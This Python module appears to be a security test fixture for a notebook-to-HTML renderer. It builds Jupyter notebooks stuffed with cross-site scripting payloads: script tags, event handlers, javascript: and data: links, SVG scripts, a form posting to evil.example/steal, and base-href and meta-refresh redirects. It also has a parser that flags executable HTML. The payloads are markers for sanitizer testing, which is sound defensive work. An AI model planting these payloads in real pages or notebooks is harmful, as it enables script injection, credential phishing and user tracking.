"""A corpus of hostile notebooks, and a checker that finds anything executable in HTML.

Every payload, if it ran, would set ``document.title`` to ``PWNED`` (or call ``alert``), which
the browser test watches for.
"""

from __future__ import annotations

import base64
import json
from html.parser import HTMLParser

import nbformat

JS = "document.title='PWNED';window.pwned=1;alert(1)"
EVIL_SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}">'
            f'<script>{JS}</script><circle r="4"/></svg>')

MARKDOWN_ATTACKS = "\n\n".join([
    "# Innocent title",
    f"<script>{JS}</script>",
    f'<img src="x" onerror="{JS}">',
    f"[click me](javascript:{JS})",
    f'<a href="JaVaScRiPt:{JS}">mixed case</a>',
    f'<a href="  javascript:{JS}">spaces</a>',
    f'<a href="data:text/html,<script>{JS}</script>">data link</a>',
    f"<iframe src=\"javascript:{JS}\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/e\">",
    "<form action=\"https://evil.example/steal\"><input name=p><button>go</button></form>",
    EVIL_SVG,
    "<style>body { background: url(https://evil.example/track.png) }</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    f'<div style="background:url(javascript:{JS})" onmouseover="{JS}">hover</div>',
    f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    "<img src=\"https://evil.example/track.png\">",
    f"<math><mi xlink:href=\"javascript:{JS}\">x</mi></math>",
    "$x^2$ and \\(\\href{javascript:alert(1)}{y}\\)",
    "![pic](attachment:evil.svg)",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
])


def _output(output_type: str, **fields) -> dict:
    if output_type in ("display_data", "execute_result"):
        fields.setdefault("metadata", {})
    return nbformat.from_dict({"output_type": output_type, **fields})


def hostile_notebook() -> nbformat.NotebookNode:
    """Script tags, event handlers, javascript: links and SVG scripts in Markdown, outputs and
    attachments; JavaScript and widget outputs; markup in errors and streams."""
    nb = nbformat.v4.new_notebook()
    markdown = nbformat.v4.new_markdown_cell(MARKDOWN_ATTACKS)
    markdown["attachments"] = {"evil.svg": {
        "image/svg+xml": base64.b64encode(EVIL_SVG.encode()).decode()}}
    code = nbformat.v4.new_code_cell("display(evil)")
    code.outputs = [
        _output("display_data", data={"text/html": f"<b>bold</b><script>{JS}</script>",
                                      "text/plain": "<IPython.core.display.HTML object>"}),
        _output("display_data", data={"text/html": f'<img src=x onerror="{JS}">'}),
        _output("display_data", data={"application/javascript": JS,
                                      "text/plain": "<IPython.core.display.Javascript>"}),
        _output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2,
                                                         "version_minor": 0},
            "text/plain": "IntSlider(value=3)"}),
        _output("display_data", data={"image/svg+xml": EVIL_SVG}),
        _output("display_data", data={"text/markdown": f"[md link](javascript:{JS}) "
                                                       f"<script>{JS}</script>"}),
        _output("display_data", data={"text/latex": "$\\href{javascript:alert(1)}{z}$"}),
        _output("display_data", data={"image/png": f'AAAA" onerror="{JS}'}),
        _output("execute_result", execution_count=1,
                data={"text/html": "<table><tr><td>ok table</td></tr></table>",
                      "text/plain": "table"}),
        _output("stream", name="stdout", text=f"<script>{JS}</script>\n"),
        _output("error", ename="ValueError", evalue=f"<img src=x onerror={JS}>",
                traceback=[f"\x1b[31mValueError\x1b[0m: <script>{JS}</script>"]),
    ]
    nb.cells = [markdown, code, nbformat.v4.new_raw_cell(f"<script>{JS}</script>")]
    return nb


def hostile_metadata_notebook() -> nbformat.NotebookNode:
    """Markup and scripts hidden in notebook and cell metadata (language, kernel, title)."""
    nb = nbformat.v4.new_notebook()
    nb.metadata = {
        "kernelspec": {"name": "python3", "display_name": f"<script>{JS}</script>",
                       "language": f'python"><script>{JS}</script>'},
        "language_info": {"name": f'python"><img src=x onerror="{JS}">',
                          "pygments_lexer": f"<script>{JS}</script>",
                          "codemirror_mode": {"name": "<script>"}},
        "title": f"<script>{JS}</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": JS}}},
    }
    cell = nbformat.v4.new_code_cell("print('hello')")
    cell.metadata = {"tags": [f'"><script>{JS}</script>'], "jupyter": {"source_hidden": False}}
    nb.cells = [cell, nbformat.v4.new_markdown_cell("plain text")]
    return nb


def huge_output_notebook(megabytes: int = 4) -> nbformat.NotebookNode:
    """One stream output of several megabytes and many small outputs."""
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("spam()")
    cell.outputs = [_output("stream", name="stdout", text="<b>x</b>" * (megabytes * 2**17))]
    cell.outputs += [_output("stream", name="stdout", text=f"line {i}\n") for i in range(300)]
    nb.cells = [cell]
    return nb


def to_bytes(nb: nbformat.NotebookNode) -> bytes:
    return json.dumps(nb).encode("utf-8")


FORBIDDEN_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "form", "input",
                  "button", "svg", "math", "style", "link", "meta", "base", "noscript",
                  "template", "textarea", "select", "audio", "video", "source", "portal"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster",
                  "srcset", "data", "ping", "cite"}


class ExecutableFinder(HTMLParser):
    """Collects everything in HTML that could run code or load something from elsewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            lowered = "".join(value.split()).lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name == "style":
                self.problems.append(f"<{tag} style=…>")
            if name in URL_ATTRIBUTES:
                if lowered.startswith(("javascript:", "vbscript:", "data:text", "data:app")):
                    self.problems.append(f"<{tag} {name}={value[:40]}>")
                if tag == "img" and name == "src" and not lowered.startswith("data:image/"):
                    self.problems.append(f"<img src={value[:40]}> (not a data: image)")
                if name != "href" and lowered.startswith(("http:", "https:", "//")):
                    self.problems.append(f"<{tag} {name}={value[:40]}> (external resource)")

    handle_startendtag = handle_starttag


def executable_parts(html: str) -> list[str]:
    """What in ``html`` could execute or load external resources (empty when safe)."""
    finder = ExecutableFinder()
    finder.feed(html)
    finder.close()
    return finder.problems
